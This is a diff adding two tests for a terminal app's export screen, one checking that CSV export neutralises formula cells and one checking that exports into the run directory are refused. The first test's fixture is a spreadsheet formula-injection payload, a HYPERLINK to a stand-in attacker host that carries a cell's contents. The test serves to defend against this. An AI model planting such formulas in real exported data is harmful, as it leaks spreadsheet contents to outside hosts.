@@ -169,3 +169,40 @@ def test_snapshot_with_csv_of_failed_items_chosen(snap_compare: Any) -> None:
 
 def test_every_binding_has_an_id() -> None:
     assert_bindings_have_ids(ExportScreen)
+
+
+async def test_csv_cells_that_start_a_formula_are_inert_unless_raw_cells_is_ticked(
+    tmp_path: Path,
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
+    source = tmp_path / "sheet.jsonl"
+    source.write_text(json.dumps({"id": "f1", "text": formula}) + "\n")
+    sheet = Run.create(make_config(input=str(source), sim={"latency_ms": 0}))
+    await sheet.execute([])
+    app = HostApp(ExportScreen(sheet, directory=tmp_path))
+    async with app.run_test(size=SNAPSHOT_SIZE) as pilot:
+        await pilot.click("#format-csv")
+        app.screen.query_one("#path", Input).value = "safe.csv"
+        await _export(pilot)
+        await pilot.click("#raw-cells")
+        app.screen.query_one("#path", Input).value = "raw.csv"
+        await _export(pilot)
+    cells = {}
+    for name in ("safe", "raw"):
+        with (tmp_path / f"{name}.csv").open(newline="") as stream:
+            [row] = list(csv.DictReader(stream))
+            cells[name] = row["text"]
+    assert cells == {"safe": "'" + formula, "raw": formula}
+
+
+async def test_an_export_into_the_run_dir_is_refused_in_one_line(run: Run, tmp_path: Path) -> None:
+    inside = run.run_dir / "results.jsonl"
+    app = HostApp(ExportScreen(run, directory=tmp_path))
+    async with app.run_test(size=SNAPSHOT_SIZE) as pilot:
+        app.screen.query_one("#path", Input).value = str(inside)
+        await _export(pilot)
+        assert str(_line(app).content) == (
+            f"Export failed: {inside} is inside run dir {run.run_dir}: write it somewhere "
+            "else, run dirs hold only what batchdeck keeps there"
+        )
+    assert not inside.exists()
